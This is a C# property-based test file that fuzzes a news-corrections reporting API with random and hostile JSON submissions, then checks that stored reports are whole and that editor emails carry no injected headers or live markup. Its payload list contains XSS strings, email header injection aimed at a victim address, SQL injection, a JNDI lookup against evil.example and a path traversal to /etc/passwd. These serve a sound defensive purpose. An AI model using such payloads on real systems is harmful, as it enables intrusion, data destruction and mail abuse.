using Corrections.Features.Notifications;
using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using Corrections.Configuration;
using Corrections.Data;
using Corrections.Email;
using Corrections.Tests.Infrastructure;
using CsCheck;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MimeKit;

namespace Corrections.Tests.Abuse;

/// <summary>
/// Thousands of random and hostile submissions: the service never answers 5xx, never stores half a report, and every
/// report it keeps renders into a mail with no injected header, recipient or live markup.
/// </summary>
public sealed partial class HostilePayloadTests() : ServiceTest(TestRelay.None)
{
    protected override Dictionary<string, string?> Settings => new() { ["Abuse:MinimumFillMilliseconds"] = "0" };

    private static readonly string[] Naughty =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<a href=\"https://evil.example\">click</a>",
        "javascript:alert(1)", "<svg/onload=alert(1)>", "<style>*{display:none}</style>", "<iframe src=//evil.example>",
        "line one\r\nBcc: victim@example.com", "\r\n\r\n<html>", "=?utf-8?q?=0D=0ABcc:_victim@example.com?=", "%0d%0aBcc:victim@example.com",
        "\u202Eevil\u202C", "\u2066isolate\u2069", "\u0000\u0001\u0007\u001B[31m", "\uFEFFbom", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗̻̓", "𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧", "ﷺ", "مرحبا بالعالم", "שלום",
        "' OR 1=1 --", "'; DROP TABLE Reports; --", "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../../etc/passwd", "null", "undefined", "NaN",
        "", " ", "\t\n", new string('a', 999), new string('b', 1001), new string('c', 2001), new string('€', 600), "a\u0301\u0302\u0303",
    ];

    private static readonly Gen<string> Text = Gen.OneOf(
        Gen.OneOf(Naughty),
        Gen.String[0, 80],
        Gen.Char.Array[0, 40].Select(chars => new string(chars)),
        Gen.OneOf("brave new wrold", "the goverment said", "Welcome to the "));

    private static string JsonString(string text) => System.Text.Json.JsonSerializer.Serialize(text);

    /// <summary>A JSON value of any kind, sometimes of the right type, often not.</summary>
    private static readonly Gen<string> AnyValue = Gen.Frequency(
        (16, Text.Select(JsonString)),
        (1, Gen.OneOf("null", "true", "false", "0", "-1", "1e308", "1e400", "123456789012345678901234567890", "[]", "{}", "[\"a\",1]", "{\"exact\":1}")),
        (1, Gen.Int[1, 200].Select(depth => new string('[', depth) + new string(']', depth))),
        (1, Gen.Long.Select(n => n.ToString())));

    private static readonly Gen<string> Url = Gen.Frequency(
        (5, Text.Select(t => JsonString("https://news.example.org/" + t))),
        (1, Gen.OneOf("https://evil.example/a", "javascript:alert(1)", "//news.example.org/a", "https://news.example.org:443/a?x=<script>#frag").Select(JsonString)),
        (1, AnyValue));

    private static readonly Gen<byte[]> Payload = Gen.Select(
        Gen.Frequency((8, Gen.Const("\"demo\"")), (1, AnyValue)),
        Url,
        Gen.Select(AnyValue, AnyValue, AnyValue, Gen.Int[0, 3]),
        Gen.Select(AnyValue, AnyValue, AnyValue, AnyValue),
        Gen.Select(AnyValue, Gen.Int[0, 9]),
        (site, url, selection, fields, extra) =>
        {
            var (exact, prefix, suffix, selectionShape) = selection;
            var (suggestion, comment, email, title) = fields;
            var (honeypot, corruption) = extra;
            var selectionJson = selectionShape switch
            {
                0 => AnyValue.Single(),
                _ => $"{{\"exact\":{(selectionShape == 3 ? JsonString("wrold") : exact)},\"prefix\":{prefix},\"suffix\":{suffix}}}",
            };
            var json = $"{{\"site\":{site},\"url\":{url},\"title\":{title},\"lang\":\"en\",\"selection\":{selectionJson},"
                + $"\"suggestion\":{suggestion},\"comment\":{comment},\"readerEmail\":{(corruption < 8 ? "null" : email)},\"website\":{(corruption == 0 ? honeypot : "\"\"")},"
                + $"\"clientRequestId\":{JsonString(Guid.NewGuid().ToString())}}}";
            var bytes = Encoding.UTF8.GetBytes(json);
            // Now and then, bytes that are not UTF-8 at all.
            if (corruption == 9 && bytes.Length > 20)
            {
                bytes[bytes.Length / 2] = 0xC3;
                bytes[bytes.Length / 2 + 1] = 0x28;
            }
            return bytes;
        });

    [Fact]
    public async Task Hostile_payloads_never_get_a_5xx_never_half_store_and_always_render_a_safe_mail()
    {
        var client = App.CreateClient();
        var statuses = new Dictionary<HttpStatusCode, int>();

        await Payload.SampleAsync(async body =>
        {
            var content = new ByteArrayContent(body);
            content.Headers.ContentType = new("application/json");
            var response = await client.PostAsync("/api/reports", content);
            lock (statuses)
                statuses[response.StatusCode] = statuses.GetValueOrDefault(response.StatusCode) + 1;
            Assert.True((int)response.StatusCode < 500, $"{response.StatusCode} for {Encoding.UTF8.GetString(body)}");
            Assert.Contains(response.StatusCode, new[] { HttpStatusCode.Accepted, HttpStatusCode.BadRequest, HttpStatusCode.NotFound });
        }, iter: 3000, threads: 2);

        Assert.True(statuses.GetValueOrDefault(HttpStatusCode.Accepted) > 100, $"enough payloads were accepted to check their mail: {string.Join(", ", statuses)}");
        await EveryStoredReportIsWholeAndRendersSafelyAsync();
    }

    private async Task EveryStoredReportIsWholeAndRendersSafelyAsync()
    {
        await using var scope = App.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<CorrectionsDb>();
        var mail = scope.ServiceProvider.GetRequiredService<EditorMail>();
        var site = scope.ServiceProvider.GetRequiredService<SiteDirectory>().Find("demo")!;
        var reports = await db.Reports.AsNoTracking().Include(r => r.Submissions).ToListAsync();
        var outbox = await db.Outbox.AsNoTracking().ToListAsync();

        foreach (var report in reports)
        {
            Assert.NotEmpty(report.Submissions);
            Assert.Equal(report.ReaderCount, report.Submissions.Count);
            Assert.False(string.IsNullOrWhiteSpace(report.Exact));
            var rows = outbox.Count(m => m.Payload.Contains(report.Id.ToString()));
            Assert.Equal(report.Status == ReportStatus.Spam ? 0 : site.Editors.Count, rows);

            var message = mail.Compose(report, site, site.Editors[0]);
            using var stream = new MemoryStream();
            await message.WriteToAsync(stream);
            stream.Position = 0;
            var parsed = await MimeMessage.LoadAsync(stream);

            Assert.Equal([site.Editors[0]], parsed.To.Mailboxes.Select(m => m.Address));
            Assert.Empty(parsed.Cc);
            Assert.Empty(parsed.Bcc);
            Assert.DoesNotContain(parsed.Headers, h => h.Id == HeaderId.Bcc || h.Id == HeaderId.Cc);
            Assert.DoesNotContain("\n", parsed.Subject ?? "");
            Assert.True(parsed.Subject!.Length <= 200, parsed.Subject);
            AssertNoLiveMarkup(parsed.HtmlBody!, report.Id);
        }
    }

    private static void AssertNoLiveMarkup(string html, Guid reportId)
    {
        foreach (Match tag in Tag().Matches(html))
        {
            var name = tag.Groups[1].Value.ToLowerInvariant();
            Assert.DoesNotContain(name, new[] { "script", "img", "iframe", "svg", "style", "object", "embed", "form", "input", "link", "meta-refresh" });
            Assert.False(EventHandler().IsMatch(tag.Value), $"report {reportId}: event handler in {tag.Value}");
        }
        foreach (Match href in Href().Matches(html))
        {
            var target = WebUtility.HtmlDecode(href.Groups[1].Value);
            var uri = new Uri(target);
            Assert.True(
                uri.GetLeftPart(UriPartial.Authority) == "https://news.example.org" || target.StartsWith("http://localhost:5080/triage/", StringComparison.Ordinal)
                    || target == "http://localhost:5080/inbox",
                $"report {reportId}: link to {target}");
            Assert.DoesNotContain('<', target);
            Assert.DoesNotContain('"', target);
        }
    }

    [GeneratedRegex(@"<([a-zA-Z][a-zA-Z0-9-]*)\b[^>]*>")]
    private static partial Regex Tag();

    [GeneratedRegex(@"\son[a-z]+\s*=", RegexOptions.IgnoreCase)]
    private static partial Regex EventHandler();

    [GeneratedRegex("href=\"([^\"]*)\"")]
    private static partial Regex Href();
}
